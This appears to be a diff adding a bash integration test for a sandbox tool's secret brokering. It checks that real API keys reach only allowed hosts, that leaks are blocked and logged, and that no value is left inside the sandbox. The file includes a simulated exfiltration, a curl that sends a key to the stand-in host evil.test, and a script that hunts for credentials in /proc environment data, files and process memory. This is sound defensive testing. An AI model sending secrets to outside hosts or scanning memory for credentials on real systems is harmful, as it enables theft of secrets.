@@ -1,0 +1,160 @@
+#!/bin/bash
+# run.sh: netns
+# Secret brokering end to end (docs/secrets.md), in the test's own network (netns-wrap.sh):
+# the sandbox holds a placeholder; the HTTPS server for api.test receives the real value;
+# nothing inside the sandbox, and nothing paddock answers or records, holds it.
+. "$(dirname "$0")/lib.sh"
+
+: "${EGRESS_DIR:?run.sh runs this test inside netns-wrap.sh}"
+H=$EGRESS_DIR/hosts
+REQ=$EGRESS_DIR/requests.jsonl
+PY=/usr/bin/python3
+REAL="ghp_R3alS3cr3tV4lue0123456789abcdefXYZ"
+export API_KEY=$REAL
+
+# sb [paddock run args...]: api.test and evil.test allowed, API_KEY bound to api.test
+sb() {
+	run_sb OUT ST --resolve-hosts "$H" --upstream-ca "$EGRESS_DIR/ca.pem" \
+		--allow api.test --allow evil.test --secret 'API_KEY@api.test' "$@"
+}
+C='curl -sS -m 5'
+
+# ---- the real value goes where it belongs, and only there ----
+sb -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers; echo; echo \"ph=\$API_KEY\""
+PH=$(sed -n 's/^ph=//p' <<<"$OUT")
+expect_match "the sandbox sees a placeholder of the same shape" '^ghp_[A-Za-z0-9]{34}$' "$PH"
+expect_no_match "the placeholder is not the value" "$REAL" "$PH"
+expect_match "curl over intercepted HTTPS, no -k: the server answered" '"Authorization"' "$OUT"
+expect_match "the server received the real value" "Bearer $REAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
+expect_no_match "a response echoing the value comes back as the placeholder" "$REAL" "$OUT"
+expect_match "...with the placeholder in its place" "Bearer $PH" "$OUT"
+
+sb -- $PY -c 'import os, urllib.request as u; r = u.Request("https://api.test/echo-headers", headers={"X-Api-Key": os.environ["API_KEY"]}); print(u.urlopen(r, timeout=5).read().decode())'
+expect_match "python urllib over intercepted HTTPS" '"X-Api-Key"' "$OUT"
+expect_match "python: the server got the value in a custom header" "\"X-Api-Key\": \"$REAL\"" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
+
+if command -v node >/dev/null; then
+	# rootless, memory is an address-space rlimit, below what V8 reserves for WebAssembly
+	# (undici's HTTP parser): node needs a larger --memory there (docs/security.md)
+	mem=()
+	[ "$MODE" = rootless ] && mem=(--memory 64G)
+	sb "${mem[@]}" -- node -e 'fetch("https://api.test/echo-headers", {headers: {authorization: "token " + process.env.API_KEY}}).then(r => r.text()).then(t => console.log(t), e => console.log("ERR", e.cause || e))'
+	expect_match "node fetch over intercepted HTTPS (transparent)" '"[Aa]uthorization"' "$OUT"
+	expect_match "node: the server got the value" "token $REAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
+fi
+
+sb -- sh -c "$C -u \"user:\$API_KEY\" https://api.test/echo-headers"
+B64=$(printf 'user:%s' "$REAL" | base64 -w0)
+expect_match "Basic auth: the server got user:value" "Basic $B64" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
+
+cat >"$T_TMP/body.json" <<'JSON'
+{"network": {"allow": ["api.test", "evil.test"]},
+ "secrets": [{"name": "API_KEY", "source": "env:API_KEY", "hosts": ["api.test"], "in_body": true}]}
+JSON
+chmod 644 "$T_TMP/body.json"
+run_sb OUT ST --resolve-hosts "$H" --upstream-ca "$EGRESS_DIR/ca.pem" --spec "$T_TMP/body.json" -- \
+	sh -c "$C -d \"token=\$API_KEY&x=1\" https://api.test/echo"
+expect_match "body substitution: the server got the value in the body" "token=$REAL&x=1" "$(grep '"event": "body"' "$REQ" | tail -n1)"
+expect_no_match "body substitution: the echo came back scrubbed" "$REAL" "$OUT"
+
+# ---- a placeholder sent anywhere else is blocked and recorded ----
+sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://evil.test/echo-headers"
+expect_match "leak: refused with a 403 naming the secret" 'blocked: the request carries the placeholder of secret API_KEY' "$OUT"
+expect_match "leak: recorded as secret.leak_blocked naming the secret" '"event":"secret.leak_blocked".*"secret":"API_KEY"' "$OUT"
+expect_eq "leak: nothing reached evil.test with the placeholder" "0" "$(grep '"host": "evil.test"' "$REQ" | grep -c 'Bearer')"
+sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers"
+expect_match "use: recorded as secret.used, with the request line" '"event":"secret.used".*"secret":"API_KEY".*"request":"GET /echo-headers HTTP/1.1"' "$OUT"
+expect_no_match "no event carries the value" "$REAL" "$OUT"
+
+# ---- the value is nowhere inside ----
+cat >"$T_TMP/hunt.py" <<'PYEOF'
+# Looks for the real value by its SHA-256 only: the value itself never enters this process,
+# so finding it anywhere (its own memory included) means it leaked into the sandbox.
+import hashlib, os, re, sys
+target = bytes.fromhex(sys.argv[1])
+shape = re.compile(rb"ghp_[A-Za-z0-9]{34}")
+def holds(data):
+    return any(hashlib.sha256(m.group()).digest() == target for m in shape.finditer(data))
+found = []
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for f in ("environ", "cmdline"):
+            try:
+                if holds(open(f"/proc/{pid}/{f}", "rb").read()):
+                    found.append(f"/proc/{pid}/{f}")
+            except OSError:
+                pass
+for top in ("/etc", "/home", "/tmp", "/workspace", "/run", "/var"):
+    for d, _, files in os.walk(top):
+        for n in files:
+            p = os.path.join(d, n)
+            try:
+                if holds(open(p, "rb").read(1 << 20)):
+                    found.append(p)
+            except OSError:
+                pass
+maps = open("/proc/self/maps").read().splitlines()
+mem = open("/proc/self/mem", "rb", 0)
+scanned = 0
+for line in maps:
+    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
+    if not m:
+        continue
+    lo, hi = int(m[1], 16), int(m[2], 16)
+    try:
+        mem.seek(lo)
+        data = mem.read(hi - lo)
+        scanned += len(data)
+        if holds(data):
+            found.append("memory " + line)
+    except (OSError, OverflowError, ValueError):
+        pass
+print("scanned", scanned > 0, "placeholder-seen", holds is not None)
+print("found:", found if found else "nothing")
+PYEOF
+chmod 644 "$T_TMP/hunt.py"
+HASH=$(printf '%s' "$REAL" | sha256sum | cut -d' ' -f1)
+sb --ro-bind "$T_TMP/hunt.py:/h.py" -- sh -c "env; $PY /h.py $HASH; $PY /h.py \$(printf %s \"\$API_KEY\" | sha256sum | cut -d' ' -f1)"
+expect_match "env shows the placeholder" '^API_KEY=ghp_|
+API_KEY=ghp_' "$OUT"
+expect_match "no /proc/*/environ, cmdline, file or memory inside holds the value" 'found: nothing' "$OUT"
+expect_match "...and the hunt did read its own memory" 'scanned True' "$OUT"
+expect_match "...and the same hunt does find the placeholder (the method works)" "found: \['/proc/" "$OUT"
+
+# ---- a tampered upstream is refused ----
+run_sb OUT ST --resolve-hosts "$H" --allow api.test --secret 'API_KEY@api.test' --log-format json -- \
+	$C https://api.test/echo-headers
+expect_eq "upstream not trusted (no --upstream-ca): the request fails" "1" "$([ "$ST" -ne 0 ] && echo 1)"
+expect_match "...recorded with the certificate error" '"event":"egress.connection".*certificate' "$OUT"
+
+# ---- paddockd: a value given to the API is used, and never answered, stored or logged ----
+VAL="sk-ApiG1venValue0123456789abcdefghijkl"
+SOCK=$T_TMP/sock
+"${PADDOCKD:?}" --socket "$SOCK" --state-dir "$T_TMP/st" --resolve-hosts "$H" \
+	--upstream-ca "$EGRESS_DIR/ca.pem" 2>>"$T_TMP/d.log" &
+DPID=$!
+for _ in $(seq 100); do curl -s --unix-socket "$SOCK" -o /dev/null http://x/healthz && break; sleep 0.05; done
+api() { local m=$1 p=$2; shift 2; curl -s --unix-socket "$SOCK" -X "$m" "http://x$p" "$@"; }
+r=$(api POST /v1/sandboxes -d "{\"network\":{\"allow\":[\"api.test\"]},\"secrets\":[{\"name\":\"K\",\"value\":\"$VAL\",\"hosts\":[\"api.test\"]}]}")
+ID=$($PY -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$r" 2>/dev/null)
+expect_match "daemon: a sandbox with a secret given by value" '^sb_' "$ID"
+r=$(api POST "/v1/sandboxes/$ID/exec" -d '{"cmd":"curl -sS -m 5 -H \"Authorization: Bearer $K\" https://api.test/echo-headers"}')
+expect_match "daemon: the request went out" 'Authorization' "$r"
+expect_match "daemon: the server got the value" "Bearer $VAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
+all="$r$(api GET "/v1/sandboxes/$ID")$(api GET "/v1/sandboxes")$(api GET "/v1/sandboxes/$ID/events")$(api GET /metrics)$(api GET "/v1/sandboxes/$ID/network")"
+expect_no_match "daemon: no API answer holds the value" "$VAL" "$all"
+expect_match "daemon: the sandbox's spec says the source, not the value" '"source": *"value"' "$all"
+kill -TERM "$DPID"
+wait "$DPID"
+expect_eq "daemon: its event log, database and stderr never hold the value" "0" \
+	"$(cat "$T_TMP/st"/* "$T_TMP/d.log" 2>/dev/null | grep -ac -- "$VAL")"
+"$PADDOCKD" --socket "$SOCK" --state-dir "$T_TMP/st" --resolve-hosts "$H" 2>>"$T_TMP/d.log" &
+DPID=$!
+for _ in $(seq 100); do curl -s --unix-socket "$SOCK" -o /dev/null http://x/healthz && break; sleep 0.05; done
+r=$(api GET "/v1/sandboxes/$ID")
+expect_match "daemon: restarted, the sandbox is re-adopted (its secret's value is gone)" "\"id\": *\"$ID\"" "$r"
+api DELETE "/v1/sandboxes/$ID" >/dev/null
+kill -TERM "$DPID"
+wait "$DPID"
+
+finish
